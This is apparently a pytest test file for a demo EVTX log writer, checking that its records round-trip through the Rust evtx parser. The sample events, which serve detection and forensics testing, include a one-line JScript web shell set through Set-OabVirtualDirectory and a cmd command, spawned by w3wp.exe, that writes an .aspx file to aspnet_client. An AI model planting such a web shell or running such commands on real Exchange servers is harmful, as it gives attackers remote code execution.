"""The EVTX writer's output is read back by the Rust ``evtx`` parser, field for field."""

from __future__ import annotations

import json
import struct
import xml.etree.ElementTree as ET
import zlib
from dataclasses import replace
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import evtx
import pytest

from exhunt.demo.evtx import CHUNK_SIZE, FILE_HEADER_SIZE, Event, write_evtx

NS = "{http://schemas.microsoft.com/win/2004/08/events/event}"
T0 = datetime(2021, 3, 3, 6, 49, 42, 162000, tzinfo=UTC)
WEBSHELL = (
    '-ExternalUrl \'http://f/<script language="JScript" runat="server">'
    'function Page_Load(){eval(Request["k"],"unsafe");}</script>\' -Identity \'OAB (Default Web Site)\''
)

SYSMON = Event(
    provider="Microsoft-Windows-Sysmon",
    provider_guid="{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
    event_id=1,
    channel="Microsoft-Windows-Sysmon/Operational",
    computer="EXCH01.contoso.local",
    time=T0,
    record_id=1,
    data=(
        ("UtcTime", "2021-03-03 06:49:42.162"),
        ("Image", r"C:\Windows\System32\cmd.exe"),
        ("CommandLine", r'cmd /c "whoami & echo <ok> > C:\inetpub\wwwroot\aspnet_client\x.aspx"'),
        ("ParentImage", r"C:\Windows\System32\inetsrv\w3wp.exe"),
        ("ParentCommandLine", r"c:\windows\system32\inetsrv\w3wp.exe -ap MSExchangeOWAAppPool"),
        ("RuleName", ""),
    ),
)
CMDLET = Event(
    provider="MSExchange CmdletLogs",
    qualifiers=16384,
    event_id=1,
    channel="MSExchange Management",
    computer="EXCH01.contoso.local",
    time=T0 + timedelta(seconds=1, microseconds=123456),
    record_id=2,
    data=((None, "Set-OabVirtualDirectory"), (None, WEBSHELL), (None, "")),
)
UNIFIED_MESSAGING = Event(
    provider="MSExchange Unified Messaging",
    event_id=1040,
    channel="Application",
    computer="EXCH01.contoso.local",
    time=T0 + timedelta(minutes=5),
    record_id=3,
    level=2,
    data=((None, "System.InvalidCastException: Ünïcödé — 日本語 😀"),),
)
SECURITY = Event(
    provider="Microsoft-Windows-Security-Auditing",
    event_id=4688,
    channel="Security",
    computer="EXCH01.contoso.local",
    time=T0 + timedelta(hours=1),
    record_id=4,
    level=0,
    data=(("NewProcessName", r"C:\Windows\System32\rundll32.exe"), ("SubjectUserName", "Ädmin & <Co>")),
)
SAMPLE = (SYSMON, CMDLET, UNIFIED_MESSAGING, SECURITY)


def save(tmp_path: Path, events: tuple[Event, ...] | list[Event], name: str = "log.evtx") -> Path:
    """Write ``events`` to ``tmp_path/name``."""
    path = tmp_path / name
    path.write_bytes(write_evtx(events))
    return path


def json_records(path: Path) -> list[dict[str, Any]]:
    """All records as parsed by ``evtx`` with checksums validated (errors raise)."""
    return list(evtx.PyEvtxParser(str(path), validate_checksums=True).records_json())


def expected_json(event: Event) -> dict[str, Any]:
    """The ``Event`` object the Rust parser's JSON output must hold for ``event``."""
    provider = {"Name": event.provider} | ({"Guid": event.provider_guid} if event.provider_guid else {})
    event_id: Any = str(event.event_id)
    if event.qualifiers is not None:
        event_id = {"#attributes": {"Qualifiers": str(event.qualifiers)}, "#text": event_id}
    system = {
        "Provider": {"#attributes": provider},
        "EventID": event_id,
        "Level": str(event.level),
        "TimeCreated": {"#attributes": {"SystemTime": system_time(event.time)}},
        "EventRecordID": str(event.record_id),
        "Channel": event.channel,
        "Computer": event.computer,
    }
    return {
        "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
        "System": system,
        "EventData": expected_event_data(event.data),
    }


def expected_event_data(data: tuple[tuple[str | None, str], ...]) -> Any:
    """JSON of ``EventData``: ``{Name: text}``, or ``{"Data": {"#text": ...}}`` for unnamed items."""
    if not data:
        return None
    if all(name is None for name, _ in data):
        texts = [text for _, text in data]
        return {"Data": {"#text": texts[0] if len(texts) == 1 else texts}}
    return {name: text for name, text in data}


def system_time(moment: datetime) -> str:
    """Windows' seven-digit ``SystemTime`` text."""
    utc = moment.astimezone(UTC)
    return utc.strftime("%Y-%m-%dT%H:%M:%S.%f") + "0Z"


def header_time(record: dict[str, Any]) -> datetime:
    """The record header's FILETIME as reported by ``evtx`` (``...Z UTC``)."""
    return datetime.fromisoformat(record["timestamp"].removesuffix(" UTC"))


def test_every_field_round_trips(tmp_path: Path) -> None:
    records = json_records(save(tmp_path, SAMPLE))
    assert [record["event_record_id"] for record in records] == [1, 2, 3, 4]
    for event, record in zip(SAMPLE, records, strict=True):
        assert json.loads(record["data"]) == {"Event": expected_json(event)}
        assert header_time(record) == event.time


def test_exchange_management_webshell_is_data(tmp_path: Path) -> None:
    record = json_records(save(tmp_path, (CMDLET,)))[0]
    data = json.loads(record["data"])["Event"]["EventData"]["Data"]["#text"]
    assert data == ["Set-OabVirtualDirectory", WEBSHELL, ""]


def test_xml_output_is_well_formed_and_ordered(tmp_path: Path) -> None:
    records = list(evtx.PyEvtxParser(str(save(tmp_path, SAMPLE))).records())
    assert len(records) == len(SAMPLE)
    for event, record in zip(SAMPLE, records, strict=True):
        root = ET.fromstring(record["data"].encode())
        assert root.tag == f"{NS}Event"
        assert [child.tag for child in root] == [f"{NS}System", f"{NS}EventData"]
        system = root.find(f"{NS}System")
        assert system is not None
        assert [child.tag.removeprefix(NS) for child in system] == [
            "Provider", "EventID", "Level", "TimeCreated", "EventRecordID", "Channel", "Computer",
        ]  # fmt: skip
        assert system.findtext(f"{NS}EventID") == str(event.event_id)
        for item, (name, text) in zip(root.findall(f"{NS}EventData/{NS}Data"), event.data, strict=True):
            assert item.get("Name") == name
            assert (item.text if text else (item.text or "").strip()) == text  # empty renders as whitespace


def test_script_text_is_escaped_in_xml(tmp_path: Path) -> None:
    xml = next(iter(evtx.PyEvtxParser(str(save(tmp_path, (CMDLET,)))).records()))["data"]
    assert "&lt;script" in xml and "<script" not in xml
    items = ET.fromstring(xml.encode()).findall(f"{NS}EventData/{NS}Data")
    assert items[1].text == WEBSHELL


def test_many_events_span_several_chunks_in_order(tmp_path: Path) -> None:
    events = [
        replace(
            SYSMON,
            record_id=1000 + index,
            time=T0 + timedelta(seconds=index),
            data=(("Image", rf"C:\Temp\p{index}.exe"), ("CommandLine", f"{index:05d} " + "A" * (200 + index % 700))),
        )
        for index in range(3000)
    ]
    blob = write_evtx(events)
    chunk_count = (len(blob) - FILE_HEADER_SIZE) // CHUNK_SIZE
    assert chunk_count > 10 and len(blob) == FILE_HEADER_SIZE + chunk_count * CHUNK_SIZE
    assert struct.unpack_from("<QQQ", blob, 8) == (0, chunk_count - 1, 4000)
    assert struct.unpack_from("<H", blob, 42) == (chunk_count,)
    path = tmp_path / "big.evtx"
    path.write_bytes(blob)
    records = json_records(path)
    assert [record["event_record_id"] for record in records] == [event.record_id for event in events]
    for event, record in zip(events, records, strict=True):
        assert json.loads(record["data"]) == {"Event": expected_json(event)}


def test_chunk_headers_list_their_record_range(tmp_path: Path) -> None:
    events = [replace(SECURITY, record_id=index + 1, data=(("Pad", "x" * 4000),)) for index in range(40)]
    blob = write_evtx(events)
    first_ids = []
    for start in range(FILE_HEADER_SIZE, len(blob), CHUNK_SIZE):
        chunk = blob[start : start + CHUNK_SIZE]
        assert chunk[:8] == b"ElfChnk\x00"
        first, last, first_id, last_id = struct.unpack_from("<QQQQ", chunk, 8)
        assert (first, last) == (first_id, last_id)
        last_offset, free = struct.unpack_from("<II", chunk, 44)
        assert struct.unpack_from("<IIQ", chunk, last_offset)[::2] == (0x2A2A, last_id)
        assert free <= CHUNK_SIZE and not any(chunk[free:])
        first_ids.append(first)
    assert len(first_ids) > 1 and first_ids[0] == 1


def test_checksums_follow_the_format(tmp_path: Path) -> None:
    blob = write_evtx(SAMPLE)
    assert blob[:8] == b"ElfFile\x00"
    assert struct.unpack_from("<I", blob, 124)[0] == zlib.crc32(blob[:120])
    chunk = blob[FILE_HEADER_SIZE:]
    free, events_crc = struct.unpack_from("<II", chunk, 48)
    assert events_crc == zlib.crc32(chunk[512:free])
    assert struct.unpack_from("<I", chunk, 124)[0] == zlib.crc32(chunk[:120] + chunk[128:512])
    corrupt = bytearray(blob)
    corrupt[FILE_HEADER_SIZE + 700] ^= 0xFF
    path = tmp_path / "corrupt.evtx"
    path.write_bytes(bytes(corrupt))
    with pytest.raises(RuntimeError, match="CRC32"):
        json_records(path)


def test_output_is_deterministic() -> None:
    copies = tuple(replace(event) for event in SAMPLE)
    assert write_evtx(SAMPLE) == write_evtx(copies)
    assert write_evtx(list(SAMPLE)) == write_evtx(SAMPLE)


def test_times_are_converted_to_utc(tmp_path: Path) -> None:
    local = replace(SECURITY, time=datetime(2021, 3, 3, 9, 0, 0, 5, tzinfo=timezone(timedelta(hours=3))))
    record = json_records(save(tmp_path, (local,)))[0]
    system = json.loads(record["data"])["Event"]["System"]
    assert system["TimeCreated"]["#attributes"]["SystemTime"] == "2021-03-03T06:00:00.0000050Z"
    assert header_time(record) == datetime(2021, 3, 3, 6, 0, 0, 5, tzinfo=UTC)


def test_event_without_data_and_empty_file(tmp_path: Path) -> None:
    bare = replace(SECURITY, data=())
    assert json.loads(json_records(save(tmp_path, (bare,)))[0]["data"]) == {"Event": expected_json(bare)}
    empty = save(tmp_path, (), "empty.evtx")
    assert empty.stat().st_size == FILE_HEADER_SIZE
    assert json_records(empty) == []


@pytest.mark.parametrize(
    ("events", "message"),
    [
        ((replace(SYSMON, time=datetime(2021, 3, 3)),), "naive"),  # noqa: DTZ001 - the case under test
        ((SYSMON, replace(CMDLET, record_id=1)), "record id"),
        ((replace(SYSMON, record_id=0),), "record id"),
        ((replace(SYSMON, data=(("Big", "x" * 40000),)),), "does not fit"),
        ((replace(SYSMON, data=(("Huge", "x" * 70000),)),), "65535"),
    ],
)
def test_invalid_input_is_rejected(events: tuple[Event, ...], message: str) -> None:
    with pytest.raises(ValueError, match=message):
        write_evtx(events)
